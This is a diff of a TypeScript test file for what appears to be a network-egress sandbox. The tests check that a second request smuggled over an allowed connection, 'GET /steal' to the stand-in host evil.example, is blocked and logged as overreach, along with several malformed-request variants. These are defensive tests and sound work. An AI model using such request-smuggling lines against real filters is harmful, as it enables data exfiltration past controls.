@@ -113,31 +113,70 @@ test("declared connections are passed on, and what was said in them is seen [BOX
   );
 });
 
-test("a second request to another host over a connection that was passed on is overreach", {
+test("of a connection that is passed on, a second request to another host gets nowhere and is told", {
   timeout,
 }, async () => {
-  const plain = createHttp((_, reply) => reply.end("hello"));
+  const asked: string[] = [];
+  const plain = createHttp((request, reply) => {
+    asked.push(`${request.headers.host}${request.url}`);
+    reply.end("hello");
+  });
   await new Promise<void>((done) => plain.listen(0, "127.0.0.1", done));
   const twice = `
+    const head = (host, path) => "GET " + path + " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n";
     const socket = require("net").connect(80, "api.declared.example", () => {
-      socket.write("GET / HTTP/1.1\\r\\nHost: api.declared.example\\r\\n\\r\\n");
-      socket.once("data", () => {
-        socket.write("GET /steal HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n");
-        socket.on("close", () => process.exit(0));
-        setTimeout(() => process.exit(0), 500);
-      });
-    });`;
+      socket.write(head("api.declared.example", "/") + head("evil.example", "/steal"));
+    });
+    socket.on("close", () => process.exit(0)).resume();`;
   const running = await start(
     { command: process.execPath, args: ["-e", twice] },
     { allowed, forwards: true, dial: () => connect((plain.address() as AddressInfo).port, "127.0.0.1") },
   );
   await running.exited;
   plain.close();
-  plain.closeAllConnections();
+  assert.deepEqual(asked, ["api.declared.example/"]);
   const [event] = running.events.filter((each): each is EgressEvent => each.kind === "egress");
   assert.deepEqual([event?.verdict, event?.ending], ["overreach", "forwarded"]);
   assert.match(event?.reason ?? "", /evil\.example/);
 });
+
+const notPassed = [
+  { name: "half a request", words: "GET / HT", wait: 1_500 },
+  {
+    name: "a method nobody knows",
+    words: "M-SEARCHSEARCHSEARCHSEARCH / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
+    wait: 0,
+  },
+  { name: "nothing at first", words: "", wait: 1_500 },
+];
+for (const { name, words, wait } of notPassed)
+  test(`not passed on: ${name}`, { timeout }, async () => {
+    let hasDialled = false;
+    const script = `
+      const socket = require("net").connect(80, "api.declared.example", () => {
+        if ("${words}") socket.write("${words}");
+        setTimeout(() => socket.write("GET /steal HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"), ${wait});
+      });
+      socket.on("error", () => {});
+      socket.on("close", () => process.exit(0)).resume();`;
+    const running = await start(
+      { command: process.execPath, args: ["-e", script] },
+      {
+        allowed,
+        forwards: true,
+        dial: () => {
+          hasDialled = true;
+          return connect(1, "127.0.0.1");
+        },
+      },
+    );
+    await running.exited;
+    assert.equal(hasDialled, false);
+    assert.equal(
+      running.events.some((event) => event.kind === "egress" && event.ending === "reset"),
+      true,
+    );
+  });
 
 test("a private network is never dialled, whatever is declared [BOX-13]", { timeout }, async () => {
   const hits: string[] = [];
